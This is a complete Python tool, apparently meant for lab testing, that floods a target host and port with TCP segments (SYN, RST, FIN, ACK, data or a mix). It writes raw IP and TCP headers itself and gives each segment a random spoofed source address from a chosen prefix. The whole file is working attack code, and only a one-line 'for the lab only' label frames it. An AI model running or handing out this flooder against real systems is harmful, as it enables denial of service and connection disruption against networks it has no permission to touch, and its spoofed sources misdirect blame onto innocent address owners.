"""TCP segments by the thousand with sources that are not there, or are somebody else's. For the lab only: it writes IP headers itself.

  flood.py KIND SOURCES TARGET PORT RATE SECONDS SEED

KIND: syn, rst, fin, ack, data, or mixed. SOURCES: an IPv4 prefix, of which every segment takes an address at random; the source port
is at random too. Prints how many were sent.
"""
from __future__ import annotations

import ipaddress
import random
import socket
import struct
import sys
import time

FIN, SYN, RST, PUSH, ACK = 1, 2, 4, 8, 16
KINDS = {"syn": SYN, "rst": RST, "fin": FIN | ACK, "ack": ACK, "data": PUSH | ACK}
MSS = bytes((2, 4, 5, 180))
BATCH_S = 0.01


def total(data: bytes) -> int:
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def folded(value: int) -> int:
    while value >> 16:
        value = (value & 0xFFFF) + (value >> 16)
    return value ^ 0xFFFF


def segment(rng: random.Random, source: int, target: bytes, port: int, kind: str) -> bytes:
    options, payload = (MSS, b"") if kind == "syn" else (b"", b"payload!" if kind == "data" else b"")
    length = 20 + len(options) + len(payload)
    addresses = struct.pack("!I", source) + target
    head = struct.pack("!HHIIBBHHH", rng.randint(1024, 65535), port, rng.getrandbits(32), rng.getrandbits(32) if kind != "syn" else 0,
                       (20 + len(options)) * 4, KINDS[kind], rng.randint(1, 65535), 0, 0)
    tcp = head + options + payload
    tcp = tcp[:16] + struct.pack("!H", folded(total(addresses) + 6 + length + total(tcp))) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, 6, 0) + addresses + tcp


def main() -> None:
    kind, sources, target, port, rate, seconds, seed = sys.argv[1:]
    network, rng = ipaddress.ip_network(sources), random.Random(int(seed))
    first, count = int(network.network_address), network.num_addresses
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packed, kinds = socket.inet_aton(target), list(KINDS) if kind == "mixed" else [kind]
    sent, began = 0, time.monotonic()
    while (passed := time.monotonic() - began) < float(seconds):
        for _ in range(min(int(float(rate) * passed) - sent, int(float(rate) * BATCH_S * 10))):
            out.sendto(segment(rng, first + rng.randrange(count), packed, int(port), rng.choice(kinds)), (target, 0))
            sent += 1
        time.sleep(BATCH_S)
    print(sent)


if __name__ == "__main__":
    main()
